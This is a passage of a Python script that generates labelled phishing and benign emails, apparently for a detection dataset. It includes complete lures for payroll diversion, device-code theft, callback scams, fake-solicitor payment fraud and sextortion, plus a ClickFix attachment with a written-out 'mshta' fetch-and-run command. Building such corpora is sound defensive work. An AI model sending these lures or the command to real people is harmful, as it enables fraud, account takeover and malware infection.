# -*- coding: utf-8 -*-
"""English messages: attacks 09-16, business 09-16 (mostly the London office)."""
from common import *
import bodies as B
import lib_mime as M

# ---------------------------------------------------------------- attacks --

A(num=9, lang="en", slug="payroll-diversion-gmail",
  when=(2026, 11, 9, 7, 48, 2), tz="UK",
  frm=("James Whitfield", "james.whitfield.ldn@gmail.com"), to=[s("uk_acc")],
  subject="Bank details for November salary",
  hcs=("UTF-8", "B"),
  infra=("gmail", dict(zone="UK", pfx="wm1")),
  body=gmail("""Hi Priya,

Hope you're well. I've moved my current account to a new bank over the weekend – could you please update my details before the November payroll run? The old Lloyds account will be closed at the end of the month.

Account name: James Whitfield
Sort code: %s
Account number: %s

Could you drop me a quick line once it's done? I'm out with customers in the Midlands all week so email is easiest; my work phone is playing up.

Thanks a lot,
James
""" % BANK["uk_fake"]),
  what="Payroll diversion: 'UK office manager' asks the UK accountant to change his salary account",
  why="Personal Gmail address that is not James's known private one, display name copied; new account at an e-money bank (Revolut sort code 04-00-75) just before the payroll cut-off; avoids phone verification; no HR form.",
  pair="business 09, business 06")

A(num=10, lang="en", slug="device-code-teams-lookalike-customer",
  when=(2026, 11, 4, 14, 37, 29), tz="UK",
  frm=("Mark Davies", "mark.davies@brightwell-aggregate.co.uk"), to=[s("uk_mgr")],
  subject="2027 volumes - secure Teams session before the tender goes out",
  hcs=("utf-8", "B"),
  infra=("exo", dict(srv="LO2P265MB4410", region="GBRP265", obe="GBR01-LO2-obe", mailhost="mail-lo2gbr01on2110",
                     ip="40.107.20.110", lang="en-GB")),
  body=outlook("""Hi James,

Our procurement team have asked us to walk through the draft 2027 haulage tender with you before it goes to the wider market on Friday. Because the draft pricing schedule is commercially sensitive, we're running the call in a secured Teams session rather than a normal invite.

To join, please go to https://microsoft.com/devicelogin and enter the code GXRW7LCSM, then sign in with your Example Group account. The code is only valid for 15 minutes, so please do it as soon as you see this – if it has expired just reply and I'll generate a new one.

I'll give you a ring on your mobile once you're in so we can go through the Tunstead and Hope volumes.

Kind regards,
Mark

Mark Davies
Logistics Manager
Brightwell Aggregates Ltd
""", cs="utf-8", lang="EN-GB"),
  what="Device-code phishing: look-alike customer invites to a 'secured Teams session' by entering a code at microsoft.com/devicelogin",
  why="Domain brightwell-aggregate.co.uk lacks the 's' of the real customer's domain; Teams meetings never require a device code; entering the attacker's code grants the attacker tokens for the victim's M365 account (Storm-2372 technique); 15-minute urgency.",
  pair="business 10")

A(num=11, lang="en", slug="paypal-invoice-callback-toad",
  when=(2026, 10, 28, 3, 12, 40), tz="PT",
  frm=("service@paypal.co.uk", "service@paypal.co.uk"), to=[("", "priya.sharma@example.com")],
  subject="Invoice from Norton Billing Center (INV2-7QKD-9XRT-44LM-8H2P)",
  hcs=("UTF-8", "Q"),
  infra=("service", dict(svc="paypal", type_id="RT000238", xsl="invoice_new")),
  body=alt("""Norton Billing Center sent you an invoice for £389.99 GBP

Due on receipt

Invoice details
Amount requested: £389.99 GBP
Note from seller: Your Norton 360 Total Protection (5 devices, 3 years) has been renewed successfully and £389.99 will be charged to your account within 24 hours. If you did not authorise this renewal or want a refund, call our billing desk immediately on +44 20 7946 0958 (Mon–Sun, 24 hours).
Invoice number: INV2-7QKD-9XRT-44LM-8H2P

View and Pay Invoice: https://www.paypal.com/invoice/p/#INV27QKD9XRT44LM8H2P

Don't recognise this invoice?
Before paying, make sure you recognise this invoice. If you don't, report it.

PayPal is committed to preventing fraudulent emails.
Copyright © 1999-2026 PayPal. All rights reserved.
PayPal (Europe) S.à r.l. et Cie, S.C.A.
""", B.card_html("Norton Billing Center sent you an invoice for £389.99 GBP", [
      "Due on receipt",
      '<table cellpadding="6" style="font-size:14px;color:#333;border:1px solid #e5e5e5;width:100%;margin-bottom:14px">'
      '<tr><td><b>Amount requested</b></td><td align="right">£389.99 GBP</td></tr>'
      '<tr><td colspan="2"><b>Note from seller</b><br>Your Norton 360 Total Protection (5 devices, 3 years) has been renewed successfully and £389.99 will be charged to your account within 24 hours. If you did not authorise this renewal or want a refund, call our billing desk immediately on <b>+44 20 7946 0958</b> (Mon–Sun, 24 hours).</td></tr>'
      '<tr><td><b>Invoice number</b></td><td align="right">INV2-7QKD-9XRT-44LM-8H2P</td></tr></table>'],
      button=("View and Pay Invoice", "https://www.paypal.com/invoice/p/#INV27QKD9XRT44LM8H2P"),
      brand="PayPal", logo='<span style="font-style:italic;font-weight:700;color:#003087">Pay</span><span style="font-style:italic;font-weight:700;color:#0070e0">Pal</span>',
      head_bg="#ffffff", color="#0070e0", charset="utf-8", lang="en", font="Helvetica Neue,Arial,sans-serif",
      footer="Don't recognise this invoice? Before paying, make sure you recognise this invoice. If you don't, report it.\nCopyright © 1999-2026 PayPal. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg"),
      cs="utf-8"),
  what="Callback phishing (TOAD) delivered through PayPal's genuine invoicing system",
  why="Sent by real PayPal infrastructure, but the 'merchant' is a fraudster's account named 'Norton Billing Center'; unsolicited invoice to a company mailbox; the seller note pushes the victim to call a phone number where remote-access/refund scams follow.",
  pair=None)

A(num=12, lang="en", slug="fake-solicitor-client-account-change",
  when=(2026, 11, 2, 16, 55, 31), tz="UK",
  frm=("Eleanor Price", "eprice@hargreaveslyle-llp.co.uk"), to=[s("uk_mgr")], cc=[s("uk_acc")],
  subject="30 Crown Place - dilapidations settlement and updated client account details",
  hcs=("utf-8", "Q"),
  infra=("vps_postfix", dict(host="mail.hargreaveslyle-llp.co.uk", rdns="vps-3f2a81c4.vps.ovh.net", ip="51.38.112.46",
                             client="outlook16", zone="UTC", lang="en-gb", msgid_domain="hargreaveslyle-llp.co.uk")),
  date_zone="UK",
  body=outlook("""Dear James,

Further to the landlord's final schedule of dilapidations for the ground floor at 30 Crown Place, I am pleased to confirm that the landlord's solicitors have accepted the settlement figure of £48,250.00 in full and final satisfaction of the claim.

To complete, cleared funds need to reach our client account no later than 12 noon on Friday 6 November. Please note that following our firm's move to Barclays this quarter our client account details have changed, and the previous account should no longer be used:

Account name: Hargreaves Lyle LLP Client Account
Sort code: 20-45-77
Account number: 73019452
Reference: EGUK/CP30/DIL

I would be grateful if you could confirm by return once the transfer has been instructed. I am in court for the rest of the week, so email is the best way to reach me.

Kind regards

Eleanor Price
Partner, Real Estate
Hargreaves Lyle LLP
""", cs="utf-8", lang="EN-GB"),
  what="Fake-lawyer BEC: 'the office's solicitor' demands a GBP 48,250 settlement to a changed client account",
  why="Look-alike domain hargreaveslyle-llp.co.uk on an OVH VPS (real firm: hargreaveslyle.co.uk) with a faked Outlook X-Mailer; client-account change by email (the real firm's footer says it never does this); deadline; lawyer 'in court' to avoid a call.",
  pair="business 16")

SVG = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="300" viewBox="0 0 640 300">
  <rect width="640" height="300" fill="#eef1f5"/>
  <rect x="20" y="20" width="600" height="260" rx="10" fill="#ffffff" stroke="#cfd6de"/>
  <text x="50" y="68" font-family="Segoe UI, Arial, sans-serif" font-size="22" fill="#1f2328">Voice message</text>
  <text x="50" y="98" font-family="Segoe UI, Arial, sans-serif" font-size="14" fill="#57606a">From +44 7700 900318 · 00:47 · 12 Nov 2026, 09:12</text>
  <a xlink:href="https://voicemsg-playback.com/vm/play?id=7730512&amp;u=james.whitfield%40example.com" target="_blank">
    <circle cx="92" cy="180" r="36" fill="#0b66c3"/>
    <polygon points="82,162 82,198 112,180" fill="#ffffff"/>
    <text x="148" y="176" font-family="Segoe UI, Arial, sans-serif" font-size="18" fill="#0b66c3">Play message</text>
    <text x="148" y="200" font-family="Segoe UI, Arial, sans-serif" font-size="12" fill="#57606a">Sign in with your work account to listen</text>
  </a>
  <g fill="#c9d3de">
    <rect x="380" y="165" width="6" height="30"/><rect x="392" y="155" width="6" height="50"/>
    <rect x="404" y="170" width="6" height="20"/><rect x="416" y="150" width="6" height="60"/>
    <rect x="428" y="160" width="6" height="40"/><rect x="440" y="172" width="6" height="16"/>
    <rect x="452" y="158" width="6" height="44"/><rect x="464" y="166" width="6" height="28"/>
    <rect x="476" y="152" width="6" height="56"/><rect x="488" y="168" width="6" height="24"/>
  </g>
</svg>
"""
A(num=13, lang="en", slug="voicemail-svg-attachment",
  when=(2026, 11, 12, 9, 14, 2), tz="UK",
  frm=("Voicemail Service", "office@bakerplumbing-heating.co.uk"), to=[s("uk_mgr")],
  subject="New voicemail from +44 7700 900318 (00:47) for James Whitfield",
  hcs=("utf-8", "B"),
  infra=("cpanel_exim", dict(server="s14.ukwebhost-cloud.co.uk", ip="185.38.44.21", client_ip="91.92.243.18",
                             client_helo="WIN-Q7LJ2RD0M8K", client="none", zone="UK",
                             msgid_domain="bakerplumbing-heating.co.uk")),
  date_zone="UK",
  body=mixed(alt("""You have a new voice message.

From: +44 7700 900318
Received: 12 Nov 2026, 09:12
Duration: 00:47

The recording is attached to this message.
""", B.card_html("You have a new voice message", [
      '<table cellpadding="4" style="font-size:14px;color:#333"><tr><td>From:</td><td><b>+44 7700 900318</b></td></tr>'
      '<tr><td>Received:</td><td>12 Nov 2026, 09:12</td></tr><tr><td>Duration:</td><td>00:47</td></tr></table>',
      "The recording is attached to this message."], brand="Voicemail", color="#0b66c3", charset="utf-8", lang="en"),
      cs="utf-8", cte="base64"),
      att(SVG.encode("utf-8"), "image/svg+xml", "VM-0047-James_Whitfield.svg", note="clickable SVG, xlink to voicemsg-playback.com, no script")),
  what="Fake voicemail notification with an SVG 'player' attachment",
  why="Sent from a compromised plumbing firm's mailbox (authenticated cPanel/Exim, odd Windows HELO); the SVG is a clickable image linking to voicemsg-playback.com with the victim's address; the company has no such voicemail service.",
  pair=None)

container = C.iso6346("MSKU482913")
CLICKFIX = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Release note %s – Document viewer</title>
<style>
body{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#e9ecef}
.doc{max-width:760px;margin:30px auto;background:#fff;padding:40px;filter:blur(3px);color:#555}
.ov{position:fixed;top:0;left:0;right:0;bottom:0;background:rgba(0,0,0,.45)}
.box{position:fixed;top:90px;left:50%%;transform:translateX(-50%%);width:520px;background:#fff;border-radius:6px;padding:26px 30px;box-shadow:0 6px 30px rgba(0,0,0,.3)}
.box h2{margin:0 0 10px;font-size:19px}
ol{padding-left:20px;font-size:14px;line-height:24px}
kbd{background:#f1f3f5;border:1px solid #ccc;border-radius:3px;padding:1px 5px}
.cmd{font-family:Consolas,monospace;font-size:12px;background:#f6f8fa;border:1px solid #d0d7de;padding:8px;word-break:break-all;margin:10px 0}
.ray{font-size:11px;color:#888;margin-top:14px}
</style>
</head>
<body>
<div class="doc"><h1>DELIVERY ORDER / RELEASE NOTE</h1><p>Container %s 40' HC · Vessel MAERSK KOLKATA 244W · Port of discharge Felixstowe · Consignee Example Group UK Ltd</p><p>Free time expires 16/11/2026. Storage and demurrage charges apply thereafter.</p></div>
<div class="ov"></div>
<div class="box">
<h2>Verify you are human</h2>
<p style="font-size:14px">The document could not be displayed. Please complete the verification steps:</p>
<ol>
<li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li>
<li>Select the verification code below and copy it (<kbd>Ctrl</kbd> + <kbd>C</kbd>)</li>
<li>Paste it into the Run window (<kbd>Ctrl</kbd> + <kbd>V</kbd>) and press <kbd>Enter</kbd></li>
</ol>
<div class="cmd">mshta https://cdn-docverify-secure.com/rl/7Q2kd &nbsp; # ✅ I am not a robot - reCAPTCHA Verification ID: 4821-77</div>
<p class="ray">Ray ID: 8d2f41c7a9b3e6f1 · Performance &amp; security by Cloudflare</p>
</div>
</body>
</html>
""" % (container, container)
A(num=14, lang="en", slug="clickfix-release-note-html",
  when=(2026, 11, 11, 11, 26, 8), tz="UK",
  frm=("Northgate Forwarding | Operations", "ops@northgate-fwd.com"), to=[s("uk_mgr")],
  subject="Delivery order & release note - container %s / Felixstowe" % container,
  hcs=("utf-8", "Q"),
  infra=("esp", dict(esp="mailgun", mg_domain="mg.northgate-fwd.com")),
  body=mixed(alt("""Dear Sir/Madam,

Please find attached the delivery order and release note for container %s (MAERSK KOLKATA 244W), discharged at Felixstowe.

Free time expires on 16/11/2026; storage and demurrage will be charged thereafter. Kindly review the release note and confirm the haulier details for collection.

Best regards,
Operations Team
Northgate Forwarding Ltd
""" % container, B.card_html("Delivery order & release note", [
      "Dear Sir/Madam,",
      "Please find attached the delivery order and release note for container %s (MAERSK KOLKATA 244W), discharged at Felixstowe." % container,
      "Free time expires on 16/11/2026; storage and demurrage will be charged thereafter. Kindly review the release note and confirm the haulier details for collection.",
      "Best regards,\nOperations Team\nNorthgate Forwarding Ltd"], color="#23395d", charset="utf-8", lang="en"), cs="utf-8"),
      att(CLICKFIX.encode("utf-8"), "text/html", "ReleaseNote_%s.html" % container, charset="utf-8", note="fake CAPTCHA overlay with Win+R mshta instruction, no script")),
  what="ClickFix: HTML 'release note' shows a fake CAPTCHA telling the user to paste an mshta command into Win+R",
  why="Unknown forwarder via Mailgun; the HTML attachment blurs a fake document and instructs the user to run 'mshta https://cdn-docverify-secure.com/…' (self-infection via the Run dialog); the shipping lure (container number with a valid ISO 6346 check digit, demurrage) fits the trade.",
  pair=None)

A(num=15, lang="en", slug="fake-domain-renewal-examplegroup-eu",
  when=(2026, 10, 30, 5, 40, 12), tz="UTC",
  frm=("EU Domain Services", "renewals@eu-domainservices.com"), to=[s("itsec")],
  subject="Final notice: examplegroup.eu expires on 14/11/2026",
  hcs=("UTF-8", "Q"),
  infra=("esp", dict(esp="ses")),
  body=alt("""FINAL NOTICE - DOMAIN EXPIRATION

Domain: examplegroup.eu
Expiration date: 14/11/2026
Registrant: Example Group GmbH

Your domain registration for examplegroup.eu is about to expire. If the renewal is not completed before the expiration date, e-mail and website services associated with the domain will stop working and the name may become available for registration by third parties.

Renewal (5 years) incl. search-engine listing: EUR 249.00

Renew now: https://eu-domainservices.com/renew?d=examplegroup.eu&ref=EUD-88140293

EU Domain Services - Domain Listing Division
This notice is not a bill. You are under no obligation to pay unless you accept this offer.
""", B.card_html("Final notice - domain expiration", [
      '<table cellpadding="5" style="font-size:14px;color:#333;width:100%;border:1px solid #ddd;margin-bottom:14px">'
      '<tr><td>Domain</td><td><b>examplegroup.eu</b></td></tr><tr><td>Expiration date</td><td><b style="color:#c0392b">14/11/2026</b></td></tr>'
      '<tr><td>Registrant</td><td>Example Group GmbH</td></tr><tr><td>Renewal (5 years) incl. search-engine listing</td><td>EUR 249.00</td></tr></table>',
      "Your domain registration for examplegroup.eu is about to expire. If the renewal is not completed before the expiration date, e-mail and website services associated with the domain will stop working and the name may become available for registration by third parties."],
      button=("Renew examplegroup.eu", "https://eu-domainservices.com/renew?d=examplegroup.eu&ref=EUD-88140293"),
      brand="EU Domain Services", color="#1a5fb4", charset="us-ascii", lang="en",
      footer="EU Domain Services - Domain Listing Division\nThis notice is not a bill. You are under no obligation to pay unless you accept this offer."),
      cs="us-ascii", cte="7bit"),
  what="Fake domain-renewal notice ('domain slamming' / SEO listing) for examplegroup.eu",
  why="Not the company's registrar; bulk-sent via Amazon SES; invented expiry threat; card payment page on eu-domainservices.com; the small print admits it is an unsolicited 'offer'.",
  pair=None)

A(num=16, lang="en", slug="sextortion-bitcoin",
  when=(2026, 12, 3, 4, 22, 51), tz="BRT",
  frm=("", "priya.sharma@example.com"), to=[("", "priya.sharma@example.com")],
  env_from="contato@construtoravaledosol.com.br",
  subject="Payment requested for account priya.sharma@example.com",
  hcs=("UTF-8", "B"),
  infra=("cpanel_exim", dict(server="srv2.construtoravaledosol.com.br", ip="177.70.104.38", client_ip="45.148.10.92",
                             client_helo="[127.0.0.1]", client="none", zone="BRT", msgid_domain="construtoravaledosol.com.br")),
  date_zone="BRT",
  body=T_("""Hello!

I have to share bad news with you. A few months ago I gained access to the devices you use for browsing the internet. Since then I have been monitoring your online activity.

As you can see, I sent you this email from your own account. Through a vulnerability in your router's firmware I was able to install malware on your device, and it has given me access to your camera, your contacts, your messages and your browsing history.

I have recorded a video of you visiting adult websites, and with one click I can send it to all of your contacts and colleagues.

If you want to prevent this, transfer 1450 USD in Bitcoin to my wallet:

%s

If you don't know how to buy Bitcoin, search Google for "how to buy bitcoin". You have 48 hours from the moment you open this email. I will know when you have read it. Once I receive the payment, I will delete the video and all data permanently and you will never hear from me again.

Do not reply to this email and do not contact the police – I will notice immediately and publish everything.
""" % BTC["extort_en"], cs="utf-8", cte="base64"),
  what="Sextortion with a Bitcoin (bech32) ransom demand, From spoofed to the victim's own address",
  why="From/To are the victim's own address but the envelope sender and Received chain show a compromised Brazilian cPanel host; generic extortion template, 48-hour deadline, valid bech32 wallet.",
  pair=None)

# --------------------------------------------------------------- business --

G(num=9, lang="en", slug="private-gmail-laptop-broken",
  when=(2026, 11, 16, 8, 3, 45), tz="UK",
  frm=("James Whitfield", "jwhitfield84@gmail.com"), to=[("IT Service Desk", "it-servicedesk@example.com")], cc=[s("uk_acc")],
  subject="Work laptop won't boot - EG-LT-0412",
  hcs=("UTF-8", "B"),
  infra=("gmail", dict(zone="UK", pfx="lf1")),
  body=gmail("""Hi all,

My work laptop (EG-LT-0412) won't start this morning – black screen straight after the Lenovo logo, tried a hard reset and unplugging the dock, no change. Writing from my personal Gmail because I can't get into Outlook on the phone without the laptop for the Authenticator re-pairing.

Could you arrange a loaner? I can come into Crown Place tomorrow from 9. Please call my mobile (the number in the directory) if you need anything from me today.

Priya – I'll approve the Freightliner and port invoices on Wednesday once I'm back online, nothing is due before then.

Cheers,
James
"""),
  what="UK office manager reports a broken laptop from his private Gmail",
  why="Private-mail use explained, asks only for a loaner, points to the directory number for calls, no money or credential request; real Gmail infrastructure.",
  pair="attack 09")

TEAMS_URL = ("https://teams.microsoft.com/l/meetup-join/19%3ameeting_ZjY0NTRhNWQtNzNkOS00ZGI4LWE3ZjUtMTZiZTMxN2Q5NmI1%40thread.v2/0"
             "?context=%7b%22Tid%22%3a%2202b1e4c7-5b39-4f0e-9f83-6c1d2a7e4b58%22%2c%22Oid%22%3a%22c3e0a7d1-8f42-4b6e-a1d5-7e9c0b2f4a36%22%7d")
ICS = """BEGIN:VCALENDAR
METHOD:REQUEST
PRODID:Microsoft Exchange Server 2010
VERSION:2.0
BEGIN:VTIMEZONE
TZID:GMT Standard Time
BEGIN:STANDARD
DTSTART:16010101T020000
TZOFFSETFROM:+0100
TZOFFSETTO:+0000
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=10
END:STANDARD
BEGIN:DAYLIGHT
DTSTART:16010101T010000
TZOFFSETFROM:+0000
TZOFFSETTO:+0100
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=3
END:DAYLIGHT
END:VTIMEZONE
BEGIN:VEVENT
ORGANIZER;CN=Mark Davies:mailto:mark.davies@brightwell-aggregates.co.uk
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=James Whitf
 ield:mailto:james.whitfield@example.com
ATTENDEE;ROLE=OPT-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Katrin Voge
 l:mailto:katrin.vogel@examplegroup.eu
DESCRIPTION;LANGUAGE=en-GB:Hi James\\, Katrin\\,\\n\\nAgenda: 2027 volume forec
 ast (Tunstead\\, Hope\\, Dove Holes)\\, wagon availability over Christmas\\, i
 ndexation clause.\\n\\nMark\\n\\n_______________________________________________
 _________________________________\\nMicrosoft Teams meeting\\nJoin: %s\\nMeeting ID: 371 842 559 306 2\\nPasscode: 7Ku3Xb9Q\\n
UID:040000008200E00074C5B7101A82E00800000000F0B3C1E2D84DDB01000000000000000
 010000000A3C6E1F2B7D24D4F9C8E5A1B3D7F2E60
SUMMARY;LANGUAGE=en-GB:Brightwell / Example Group - 2027 volumes
DTSTART;TZID=GMT Standard Time:20261110T100000
DTEND;TZID=GMT Standard Time:20261110T110000
CLASS:PUBLIC
PRIORITY:5
DTSTAMP:20261103T091512Z
TRANSP:OPAQUE
STATUS:CONFIRMED
SEQUENCE:0
LOCATION;LANGUAGE=en-GB:Microsoft Teams Meeting
X-MICROSOFT-CDO-APPT-SEQUENCE:0
X-MICROSOFT-CDO-OWNERAPPTID:2123419547
X-MICROSOFT-CDO-BUSYSTATUS:TENTATIVE
X-MICROSOFT-CDO-INTENDEDSTATUS:BUSY
X-MICROSOFT-CDO-ALLDAYEVENT:FALSE
X-MICROSOFT-CDO-IMPORTANCE:1
X-MICROSOFT-CDO-INSTTYPE:0
X-MICROSOFT-DONOTFORWARDMEETING:FALSE
X-MICROSOFT-DISALLOW-COUNTER:FALSE
X-MICROSOFT-REQUESTEDATTENDANCEMODE:DEFAULT
X-MICROSOFT-ISRESPONSEREQUESTED:TRUE
BEGIN:VALARM
DESCRIPTION:REMINDER
TRIGGER;RELATED=START:-PT15M
ACTION:DISPLAY
END:VALARM
END:VEVENT
END:VCALENDAR
""" % TEAMS_URL
teams_text = """Hi James, Katrin,

Agenda: 2027 volume forecast (Tunstead, Hope, Dove Holes), wagon availability over Christmas, indexation clause.

Mark

________________________________________________________________________________
Microsoft Teams meeting
Join: %s
Meeting ID: 371 842 559 306 2
Passcode: 7Ku3Xb9Q
________________________________
Need help? https://aka.ms/JoinTeamsMeeting?omkt=en-GB | System reference https://teams.microsoft.com/l/meeting-options/
________________________________________________________________________________
""" % TEAMS_URL
G(num=10, lang="en", slug="customer-teams-meeting-invite",
  when=(2026, 11, 3, 9, 15, 12), tz="UK",
  frm=("Mark Davies", "mark.davies@brightwell-aggregates.co.uk"), to=[s("uk_mgr")], cc=[s("sales")],
  subject="Brightwell / Example Group - 2027 volumes",
  hcs=("utf-8", "B"),
  infra=("exo", dict(srv="CWLP265MB6218", region="GBRP265", obe="GBR01-CWL-obe", mailhost="mail-cwlgbr01on2105",
                     ip="40.107.21.105", lang="en-GB")),
  body=M.Multi("alternative", [
      M.Text(teams_text, "plain", "utf-8", "quoted-printable"),
      M.Text(B.outlook_html(teams_text, "EN-GB", "utf-8"), "html", "utf-8", "quoted-printable"),
      M.Text(ICS, "calendar", "utf-8", "base64", params="method=REQUEST")]),
  what="Customer sends a normal Microsoft Teams meeting request (text/calendar)",
  why="Real customer domain on its own Microsoft 365 tenant; standard Teams join link, meeting ID and passcode with an iCalendar REQUEST part; nothing to sign in to beyond joining.",
  pair="attack 10")

G(num=11, lang="en", slug="microsoft-account-password-changed",
  when=(2026, 10, 19, 15, 2, 33), tz="CET",
  frm=("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"), to=[("", "lukas.hoffmann@examplegroup.eu")],
  subject="Microsoft account password change",
  hcs=("utf-8", "B"),
  infra=("service", dict(svc="msa")),
  body=alt("""Microsoft account

Password change

The password for the Microsoft account lu*****@examplegroup.eu was changed.

If this was you, then you can safely ignore this email.

Security info used: Email lu*****@examplegroup.eu

If this wasn't you, your account has been compromised. Please follow these steps:
1. Reset your password: https://account.live.com/password/reset
2. Review your security info: https://account.live.com/proofs/Manage
3. Learn how to make your account more secure: https://go.microsoft.com/fwlink/?LinkID=324392

You can also opt out or change where you receive security notifications: https://account.live.com/SecurityNotifications/Update

Thanks,
The Microsoft account team

Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""", B.card_html("Password change", [
      "The password for the Microsoft account <a href=\"mailto:lu*****@examplegroup.eu\">lu*****@examplegroup.eu</a> was changed.",
      "If this was you, then you can safely ignore this email.",
      "Security info used: Email lu*****@examplegroup.eu",
      "If this wasn't you, your account has been compromised. Please follow these steps:",
      '<ol style="font-size:14px;line-height:21px;color:#333"><li><a href="https://account.live.com/password/reset">Reset your password.</a></li>'
      '<li><a href="https://account.live.com/proofs/Manage">Review your security info.</a></li>'
      '<li><a href="https://go.microsoft.com/fwlink/?LinkID=324392">Learn how to make your account more secure.</a></li></ol>',
      'You can also <a href="https://account.live.com/SecurityNotifications/Update">opt out or change where you receive security notifications</a>.',
      "Thanks,\nThe Microsoft account team"],
      brand="Microsoft account", head_bg="#ffffff", head_fg="#2672ec", color="#2672ec", charset="utf-8", lang="en",
      footer='<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052'),
      cs="utf-8", cte="7bit"),
  what="Genuine Microsoft account notification that the password was changed",
  why="Real Microsoft account-protection sender via Microsoft's outbound infrastructure; masked address; links only to account.live.com / go.microsoft.com; informational, no urgent action.",
  pair="credential-phishing attacks (04, 10)")

G(num=12, lang="en", slug="github-password-reset",
  when=(2026, 11, 24, 17, 41, 2), tz="CET",
  frm=("GitHub", "noreply@github.com"), to=[("", "thomas.bauer@example.com")],
  subject="[GitHub] Please reset your password",
  hcs=("UTF-8", "Q"),
  infra=("service", dict(svc="github")),
  env_from="noreply@github.com",
  body=alt("""We heard that you lost your GitHub password. Sorry about that!

But don't worry! You can use the following link to reset your password:

https://github.com/password_reset/5b6f0d2c8a9e41f7b3c2d1e0a9f8b7c6d5e4f3a2

If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit https://github.com/password_reset

Thanks,
The GitHub Team

You're receiving this email because a password reset was requested for your account.

GitHub, Inc. ・88 Colin P Kelly Jr Street ・San Francisco, CA 94107
""", B.card_html("Reset your GitHub password", [
      "We heard that you lost your GitHub password. Sorry about that!",
      "But don't worry! You can use the following button to reset your password:",
      '<p style="margin:0 0 14px 0"><a href="https://github.com/password_reset/5b6f0d2c8a9e41f7b3c2d1e0a9f8b7c6d5e4f3a2" style="background:#2da44e;color:#fff;padding:10px 18px;border-radius:6px;text-decoration:none;font-weight:600">Reset your password</a></p>',
      "If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit https://github.com/password_reset",
      "Thanks,\nThe GitHub Team"],
      brand="GitHub", head_bg="#24292f", color="#2da44e", charset="utf-8", lang="en",
      font="-apple-system,BlinkMacSystemFont,Segoe UI,Helvetica,Arial,sans-serif",
      footer="You're receiving this email because a password reset was requested for your account.\nGitHub, Inc. ・88 Colin P Kelly Jr Street ・San Francisco, CA 94107"),
      cs="utf-8"),
  what="Genuine GitHub password-reset mail requested by the head of IT",
  why="Sent from GitHub's own SMTP (out-*.smtp.github.com, 192.30.252.0/22) with GitHub's Message-ID style; only github.com links; expected after a user-initiated reset.",
  pair=None)

G(num=13, lang="en", slug="google-security-alert-new-signin",
  when=(2026, 12, 1, 10, 18, 27), tz="CET",
  frm=("Google", "no-reply@accounts.google.com"), to=[("", "katrin.vogel@examplegroup.eu")],
  subject="Security alert",
  hcs=("UTF-8", "B"),
  infra=("service", dict(svc="google")),
  env_from="3e7tOaQgTAKcUV-YLWSfQRRVXYUW.SaYYaVQ.OYWRcXRTQXfaV.NYW@gaia.bounces.google.com",
  body=alt("""A new sign-in on Windows

katrin.vogel@examplegroup.eu

We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don't need to do anything. If not, we'll help you secure your account.

Check activity
https://accounts.google.com/AccountChooser?Email=katrin.vogel@examplegroup.eu&continue=https://myaccount.google.com/alert/nt/1764582507000?rfn%3D325%26rfnc%3D1%26eid%3D-4718299316455421833%26et%3D0

You can also see security activity at
https://myaccount.google.com/notifications

You received this email to let you know about important changes to your Google Account and services.
© 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
""", B.card_html("A new sign-in on Windows", [
      '<p style="text-align:center;font-size:14px;color:#3c4043">katrin.vogel@examplegroup.eu</p>',
      "We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don't need to do anything. If not, we'll help you secure your account."],
      button=("Check activity", "https://accounts.google.com/AccountChooser?Email=katrin.vogel@examplegroup.eu&continue=https://myaccount.google.com/alert/nt/1764582507000?rfn%3D325%26rfnc%3D1%26eid%3D-4718299316455421833%26et%3D0"),
      brand="Google", head_bg="#ffffff", head_fg="#5f6368", color="#1a73e8", charset="utf-8", lang="en",
      font="Google Sans,Roboto,Arial,sans-serif",
      footer="You can also see security activity at https://myaccount.google.com/notifications\nYou received this email to let you know about important changes to your Google Account and services.\n© 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA"),
      cs="utf-8", cte="quoted-printable"),
  what="Genuine Google account 'new sign-in' alert for the sales director's Google (Ads) account",
  why="Google's own mail-sor-f*.google.com system senders and gaia.bounces.google.com envelope; links only to accounts.google.com / myaccount.google.com; no credential form.",
  pair="attack 04")

RFW = B.card_html("RailFreight Weekly · 19 November 2026", [
    "<h3 style=\"font-size:16px;margin:8px 0 6px 0\">Alpine corridor: Brenner base tunnel access works shift to 2027</h3>",
    "Infrastructure managers on both sides of the Brenner have published the revised possession plan. Operators should expect single-track working on three weekends in March.",
    "<h3 style=\"font-size:16px;margin:8px 0 6px 0\">Poland: transshipment capacity at Małaszewicze up 12 per cent</h3>",
    "The new gauge-changing tracks went into service in October, cutting average dwell times for 1520/1435 mm transfers.",
    "<h3 style=\"font-size:16px;margin:8px 0 6px 0\">Webinar: Digital Automatic Coupling – what the 2027 pilots mean for wagon keepers</h3>",
    "Thursday 3 December, 14:00 CET. Register free: https://www.railfreight-weekly.com/events/dac-2027",
    "Read all stories: https://www.railfreight-weekly.com/newsletter/2026-47"],
    brand="RailFreight Weekly", color="#b4262a", charset="utf-8", lang="en", font="Arial,Helvetica,sans-serif",
    footer='You are receiving this newsletter because you subscribed at railfreight-weekly.com with katrin.vogel@examplegroup.eu.<br>'
           '<a href="https://u4821347.ct.sendgrid.net/asm/unsubscribe/?user_id=4821347&amp;data=k8FvQ2xR7pLm">Unsubscribe</a> · '
